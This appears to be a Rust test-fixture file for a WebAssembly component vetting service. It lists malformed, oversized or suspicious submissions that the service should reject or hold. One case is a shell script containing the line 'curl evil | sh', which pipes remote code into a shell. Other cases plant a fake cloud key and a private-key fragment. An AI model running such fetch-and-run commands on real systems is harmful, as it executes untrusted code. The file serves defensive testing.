//! What no host would load, and what stands in the bytes before anything runs.

use super::forge::{Forge, bill, custom, story};
use super::submissions::{Case, Submitted, only};
use sha2::{Digest, Sha256};
use std::sync::Arc;
use toolcrib_contract::limits;
use toolcrib_contract::package::{Expect, PACKAGE_BYTES, SECTION};
use toolcrib_vetting::sbom;
use toolcrib_vetting::{Advisories, Knowledge, KnownBad};

fn beside(text: &str) -> Submitted {
    Forge::with(|forge| forge.beside = text.to_owned()).into()
}

fn within(text: &str) -> Submitted {
    Forge::with(|forge| forge.fields = text.to_owned()).into()
}

fn data(text: &str) -> Submitted {
    within(&format!("(data (i32.const 3000) \"{text}\")"))
}

/// A submission when these bytes are known as bad.
fn known(submitted: Submitted, bad: &[u8]) -> Submitted {
    let digest = Sha256::digest(bad).iter().fold(String::new(), |text, byte| format!("{text}{byte:02x}"));
    let known_bad = Some(Arc::new(KnownBad::parse(&format!("{digest} belongs to a revoked module")).unwrap()));
    Submitted { knowledge: Knowledge { known_bad, advisories: None }, ..submitted }
}

/// A submission when `gear` has a vulnerability up to this version.
fn advised(patched: &str) -> Submitted {
    let folder = tempfile::tempdir().unwrap();
    let crates = folder.path().join("crates/gear");
    std::fs::create_dir_all(&crates).unwrap();
    let text = format!(
        "```toml\n[advisory]\nid = \"RUSTSEC-2026-0001\"\npackage = \"gear\"\ndate = \"2026-10-01\"\n\n\
         [versions]\npatched = [\"{patched}\"]\n```\n\n# Gears slip\n"
    );
    std::fs::write(crates.join("RUSTSEC-2026-0001.md"), text).unwrap();
    let advisories = Some(Arc::new(Advisories::read(folder.path()).unwrap()));
    Submitted { knowledge: Knowledge { advisories, known_bad: None }, ..Forge::default().into() }
}

fn native() -> Submitted {
    // What wasmtime recognises as its own output: an ELF file with its mark and the flag of a component.
    let mut elf = vec![0u8; 64];
    elf[..8].copy_from_slice(&[0x7f, b'E', b'L', b'F', 2, 1, 1, 200]);
    (elf[20], elf[48], elf[52], elf[58]) = (1, 2, 64, 64);
    Submitted::of(elf)
}

pub const INSPECTED: &[Case] = &[
    only("empty", "no bytes at all", || Submitted::of(Vec::new())),
    only("too-large", "a byte more than a component may have", || Submitted::of(vec![0; limits::COMPONENT_BYTES + 1])),
    only("precompiled", "native code that a host would map and run", native),
    only("core-module", "a core module", || Submitted::of(wat::parse_str("(module)").unwrap())),
    only("other-binary-format", "a binary version nobody knows", || Submitted::of(b"\0asm\x0e\0\x01\0".to_vec())),
    only("truncated", "an upload that broke off", || {
        let mut bytes = Forge::default().build();
        bytes.truncate(bytes.len() / 2);
        Submitted::of(bytes)
    }),
    only("text", "the source instead of the component", || Submitted::of(b"(component)".to_vec())),
    only("not-wasm", "a shell script", || Submitted::of(b"#!/bin/sh\ncurl evil | sh\n".to_vec())),
    only("malformed", "an import that begins with nonsense", || {
        Submitted::of(b"\0asm\x0d\0\x01\0\x0a\x02\x01\x7f".to_vec())
    }),
    only("feature", "vector instructions", || within("(func (result v128) (v128.const i64x2 0 0))")),
    only("feature", "threads", || within("(func (drop (i32.atomic.load (i32.const 0))))")),
    only("invalid", "a function that returns nothing and says it does", || within("(func (result i32))")),
    only("unknown-import", "a clock of the system interface", || {
        beside(r#"(import "wasi:clocks/wall-clock@0.2.0" (instance (export "now" (func (result u64)))))"#)
    }),
    only("unknown-import", "files, under our name", || {
        beside(r#"(import "toolcrib:module/files@1.0.0" (instance (export "open" (func))))"#)
    }),
    only("other-version", "an interface of a version that does not exist", || {
        beside(r#"(import "toolcrib:module/records@2.0.0" (instance (export "get" (func))))"#)
    }),
    only("missing-export", "an empty component", || Submitted::of(b"\0asm\x0d\0\x01\0".to_vec())),
    only("unknown-export", "one export too many", || beside(r#"(type $t u32) (export "extra" (type $t))"#)),
    only("functions", "one function too many", || within(&"(func)".repeat(limits::FUNCTIONS as usize))),
    only("nested-components", "a component inside", || beside("(component)")),
    only("core-instances", "instances without end", || {
        beside(&format!("(core module $e) {}", "(core instance (instantiate $e))".repeat(8)))
    }),
    only("memories", "a second memory", || beside("(core module $m (memory 1)) (core instance (instantiate $m))")),
    only("tables", "a handful of tables", || within(&"(table 1 funcref)".repeat(5))),
    only("memory", "more memory than a call may have", || Forge::with(|forge| forge.pages = 1_025).into()),
    only("table-elements", "a huge table", || within("(table 20001 funcref)")),
    only("packages", "two packages", || beside(&custom(SECTION, b"{}"))),
];

pub const HELD: &[Case] = &[
    only("budgets", "a function with thousands of local variables", || {
        within(&format!("(func (local {}))", "i64 ".repeat(5_001)))
    }),
    only("budgets", "blocks inside blocks", || {
        within(&format!("(func {}{})", "(block ".repeat(1_001), ")".repeat(1_001)))
    }),
    only("budgets", "globals without end", || within(&"(global i32 (i32.const 0))".repeat(1_001))),
    only("custom-sections", "a section that no tool writes", || beside(&custom("payload", b"smuggled"))),
    only("custom-sections", "a large section that no tool writes", || beside(&custom("payload", &[b' '; 20_000]))),
    only("debug-sections", "debug information", || beside(&custom(".debug_info", b"DWARF"))),
    only("secrets", "a cloud access key", || data("AKIAABCDEFGHIJKLMNOP")),
    only("secrets", "a private key", || data(concat!("-----BEGIN PRIVATE", " KEY-----MIIEvQ"))),
    only("secret-entropy", "a password that no form fits", || data("q8Zk3vR1xT7bYw2LmN5cJd9Hs4Fg6Pa0Ue")),
    only("machine-paths", "somebody's folder", || data(concat!("/ho", "me/ann/secret-project/src/lib.rs"))),
    only("known-bad", "the very bytes of a revoked module", || {
        let bytes = Forge::default().build();
        known(Submitted::of(bytes.clone()), &bytes)
    }),
    only("known-bad", "its data under a new name", || {
        let secret = "take everything and run. ".repeat(4);
        known(data(&secret), secret.as_bytes())
    }),
    only("sbom", "nothing is told of what it is made of", || Forge::with(|forge| forge.bill = None).into()),
    only("sbom", "a bill of materials that is none", || {
        Forge::with(|forge| {
            forge.bill = None;
            forge.beside = custom(sbom::SECTION, b"press-log 1.0.0");
        })
        .into()
    }),
    only("advisories", "a dependency with a known hole", || advised(">= 1.0.1")),
    only("dependency-licences", "a dependency whose terms do not fit", || {
        Forge::with(|forge| forge.bill = Some(bill("GPL-3.0-only"))).into()
    }),
    only("package", "no listing and no scenarios", || Forge::with(|forge| forge.package = None).into()),
    only("package", "a package in another form", || {
        Forge::with(|forge| {
            forge.package = None;
            forge.beside = custom(SECTION, b"{\"listing\": 1}");
        })
        .into()
    }),
    only("package", "scenarios without end", || {
        Forge::with(|forge| {
            let long = story(&"x".repeat(PACKAGE_BYTES), "count", 7.into(), Expect::Success);
            forge.package.as_mut().unwrap().scenarios.push(long);
        })
        .into()
    }),
];

/// Good ones, beside what is known.
pub fn golden() -> Vec<(&'static str, Submitted)> {
    vec![
        ("a dependency whose hole is closed", advised(">= 1.0.0")),
        ("nothing in it is known as bad", known(Forge::default().into(), b"something else")),
    ]
}
